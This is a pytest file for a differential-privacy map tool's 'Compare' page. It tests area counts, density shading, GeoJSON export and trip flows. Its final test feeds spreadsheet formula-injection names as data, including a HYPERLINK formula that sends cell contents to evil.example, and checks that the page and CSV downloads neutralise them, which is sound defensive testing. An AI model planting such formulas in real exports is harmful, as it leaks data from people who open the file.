"""Counts by area on the page *Compare*: ground, tables, colours, files, flows; without a browser."""

from __future__ import annotations

import json

import numpy as np
import pytest
import streamlit
from streamlit.testing.v1 import AppTest

import dpviz
from dpviz.domain import ExactCounts, ExactPoints, Frame, GeoBox, Grid
from dpviz.drawing.density import SHADES, density_scale, find_shades, merge_rows, spread_on_pixels
from dpviz.questions.answers import TOO_COARSE
from dpviz.questions.areas import Tiles
from dpviz.releases.release import Release
from dpviz.ui.compare import areas, page_areas, words as say
from dpviz.ui.compare.logic import box_of
from dpviz.ui.map.counted import counted
from dpviz.ui.page_parts.theme import LIGHT

BOX = GeoBox(-74.05, 40.70, -73.90, 40.80)


@pytest.fixture(scope="module")
def places() -> Release:
    cells = np.zeros((32, 32), np.int64)
    cells[4:8, 4:8], cells[20:24, 22:26] = 4000, 2500
    return _made(ExactCounts.from_array(Grid(BOX, 32), cells), 1)


@pytest.fixture(scope="module")
def trips() -> Release:
    ends = np.random.default_rng(3).normal((-74.0, 40.72, -73.95, 40.78), 0.004, (20_000, 4))
    names = ("pickup_lon", "pickup_lat", "dropoff_lon", "dropoff_lat")
    low, high = (BOX.west, BOX.south) * 2, (BOX.east, BOX.north) * 2
    frame = Frame(names=names, low=low, high=high, scale=(84_000.0, 111_320.0) * 2, metric="m")
    return _made(ExactPoints.from_array(frame, ends), 2)


def _made(data: ExactCounts | ExactPoints, seed: int) -> Release:
    found = dpviz.release(data, k=2, budget=dpviz.Budget(epsilon=2.0), method="adaptive_tree", seed=seed)
    assert isinstance(found, Release)
    return found


def test_an_area_narrower_than_the_squares_that_count_it_says_so(places: Release) -> None:
    def strip(name: str, wide: float) -> dict[str, object]:
        ring = [[-74.03, 40.77], [-74.03 + wide, 40.77], [-74.03 + wide, 40.79], [-74.03, 40.79], [-74.03, 40.77]]
        shape = {"type": "Polygon", "coordinates": [ring]}
        return {"type": "Feature", "properties": {"name": name}, "geometry": shape}

    shapes = {"type": "FeatureCollection", "features": [strip("narrow", 0.0004), strip("wide", 0.1)]}
    found = areas.counts_of(places, shapes, None)
    notes = dict(zip(found.table["area"], found.table["note"], strict=True))
    assert notes["narrow"] == say.AREA_WIDE and notes["wide"] == ""
    assert say.AREA_WIDE in set(areas.tell_counts(found.table, 1000.0)[say.AREA_NOTE])


def test_boxes_on_pixels_keep_every_record_in_its_place() -> None:
    draw = np.random.default_rng(0)
    low = draw.integers(0, 60, (200, 2)) / 64
    high = low + draw.integers(1, 5, (200, 2)) / 64
    count = draw.uniform(0, 9, 200)
    plain = np.zeros((64, 64))
    for (west, south), (east, north), held in zip(low * 64, high * 64, count, strict=True):
        window = np.s_[round(south) : round(north), round(west) : round(east)]
        plain[window] += held / plain[window].size
    assert np.allclose(spread_on_pixels(low, high, count, 64), plain[::-1])


def test_pixels_become_rows_of_one_shade_on_the_same_ground() -> None:
    ground = np.zeros((8, 8), np.int64)
    ground[1, 2:5], ground[1, 5], ground[6] = 2, 3, 1
    low, high, shade = merge_rows(ground)
    painted = shade > 0
    assert shade[painted].tolist() == [2, 3, 1]
    assert np.allclose(spread_on_pixels(low, high, shade * (high - low).prod(axis=1) * 64, 8), ground)


def test_every_step_of_the_ground_holds_its_share_and_the_emptiest_is_not_painted() -> None:
    ground = np.random.default_rng(1).exponential(1.0, (200, 200)) ** 3
    begins = density_scale(ground.ravel(), ground.ravel())
    shades = find_shades(ground, begins) + 1
    held = [ground[shades == step].sum() / ground.sum() for step in range(SHADES + 1)]
    assert held[0] == pytest.approx(0.01, abs=0.002)
    assert np.allclose(held[2:], 1 / SHADES, atol=0.01)
    assert (np.diff(begins) > 0).all()


def test_ground_is_drawn_from_what_was_counted_alone(places: Release, trips: Release) -> None:
    for release in (places, trips):
        found = counted(release, box_of(release), LIGHT)
        assert found is not None
        assert found.picture.url.startswith("data:image/png;base64,")
        assert len(found.colours) == len(found.begins) == SHADES


def test_the_table_of_areas_sorts_by_numbers_and_says_where_it_cannot_say(places: Release) -> None:
    found = areas.counts_of(places, Tiles(kind=areas.SQUARES, size=250.0), None)
    table = areas.tell_counts(found.table, places.total().estimate)
    assert table[say.AREA_ABOUT].dropna().is_monotonic_decreasing
    assert (table[say.AREA_NOTE] == TOO_COARSE).equals(table[say.AREA_ABOUT].isna())
    tips = {shade.tip for shade in areas.shades_of(found)}
    assert any("about" in tip for tip in tips)


def test_a_file_of_areas_has_every_outline_hole_and_number(places: Release) -> None:
    ring = [[-74.04, 40.71], [-73.92, 40.71], [-73.92, 40.79], [-74.04, 40.79], [-74.04, 40.71]]
    hole = [[-74.0, 40.74], [-74.0, 40.76], [-73.98, 40.76], [-73.98, 40.74], [-74.0, 40.74]]
    document = {
        "type": "Feature",
        "properties": {"name": "ring"},
        "geometry": {"type": "Polygon", "coordinates": [ring, hole]},
    }
    found = areas.counts_of(places, document, None)
    ((outer, inner),) = areas.polygons(found.zones[0])
    assert len(outer) == len(inner) == 5
    again = json.loads(areas.geojson_of(found))
    assert places.count(again).estimate == pytest.approx(found.table["estimate"][0], rel=1e-6)


def test_two_releases_of_the_same_records_are_seldom_a_range_apart(places: Release) -> None:
    cells = Tiles(kind=areas.SQUARES, size=1000.0)
    first, second = (areas.counts_of(release, cells, None).table for release in (places, places.redraw(1)[0]))
    verdicts = areas.compare_counts(first, second)[say.AREA_VERDICT]
    assert (verdicts == say.AREA_DIFFERS).mean() < 0.2
    moved = second.assign(**{name: second[name] * 2 for name in ("estimate", "low", "high")})
    assert say.AREA_DIFFERS in set(areas.compare_counts(first, moved)[say.AREA_VERDICT])


def test_the_table_of_both_says_how_many_are_apart_and_how_many_noise_would_put_there(places: Release) -> None:
    first = areas.counts_of(places, Tiles(kind=areas.SQUARES, size=1000.0), None).table
    table = areas.compare_counts(first, first)
    differ, known = areas.count_apart(table)
    assert (differ, known) == (0, int((table[say.AREA_VERDICT] == say.AREA_SAME).sum()))
    moved = first.assign(**{name: first[name] * 2 + 1e6 for name in ("estimate", "low", "high")})
    assert areas.count_apart(areas.compare_counts(first, moved)) == (known, known)


def test_notes_are_short_and_ends_of_trips_have_names_of_this_language(places: Release) -> None:
    found = areas.counts_of(places, (-75.0, 40.0, -74.0, 40.75), None)
    assert areas.tell_counts(found.table, places.total().estimate)[say.AREA_NOTE].tolist() == [
        "its part inside the box"
    ]
    assert say.ENDS_OF_TRIPS["pickup"] == "pick-up"


def test_flows_are_arcs_between_the_areas_that_trips_join(trips: Release) -> None:
    found = areas.counts_of(trips, Tiles(kind=areas.SQUARES, size=4000.0), "pickup")
    flows = areas.flows_of(trips, found.zones)
    assert flows is not None
    arcs = areas.arcs_of(flows, found.zones)
    largest = arcs[-1]  # drawn last, on top
    assert largest.strength == 1.0
    assert "→" in largest.tip
    assert abs(largest.start[0] - -74.0) < 0.03
    assert abs(largest.end[0] - -73.95) < 0.03
    assert areas.flows_of(trips, found.zones * areas.MOST_FLOW_AREAS) is None


@pytest.mark.filterwarnings("default")  # Streamlit's own warnings are its own affair
@pytest.mark.parametrize("compared", [False, True])
def test_names_of_somebodys_file_are_no_formulas_in_tables_and_files(
    places: Release, trips: Release, monkeypatch: pytest.MonkeyPatch, compared: bool
) -> None:
    """The browser writes a table's cells into a CSV as they are, so they are harmless on the page already."""
    names = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(A1)"]
    edges = (BOX.west, -73.98, BOX.east)
    features = [
        {
            "type": "Feature",
            "properties": {"name": name},
            "geometry": {"type": "Polygon", "coordinates": [[[w, 40.7], [e, 40.7], [e, 40.8], [w, 40.8], [w, 40.7]]]},
        }
        for name, w, e in zip(names, edges, edges[1:], strict=False)
    ]
    document, saved = {"type": "FeatureCollection", "features": features}, dict[str, str]()
    both = (places, places.redraw(1)[0]) if compared else (trips, trips)
    end = None if compared else "pickup"
    monkeypatch.setattr(page_areas, "_asked", lambda release, other: (document, end, compared))
    monkeypatch.setattr(
        streamlit, "download_button", lambda label, content, *, file_name, **_: saved.update({file_name: content})
    )
    draw = "from dpviz.ui.compare import page_areas; import streamlit; page_areas.draw(*streamlit.session_state.both)"
    app = AppTest.from_string(draw, default_timeout=60)
    app.session_state["both"] = both
    app.run()
    assert not app.exception, [error.message for error in app.exception]
    shown = {cell for table in app.dataframe for cell in table.value.to_numpy().ravel() if isinstance(cell, str)}
    assert {f"'{name}" for name in names} <= shown and not shown & set(names)
    files = {name: text for name, text in saved.items() if name.endswith(".csv")}
    assert set(files) == ({"areas-a-and-b.csv"} if compared else {"areas.csv", "flows.csv"})
    for text in files.values():
        assert "'=HYPERLINK" in text and "'@SUM" in text
        assert not [line for line in text.splitlines() if line.startswith(("=", '"=', "@"))]
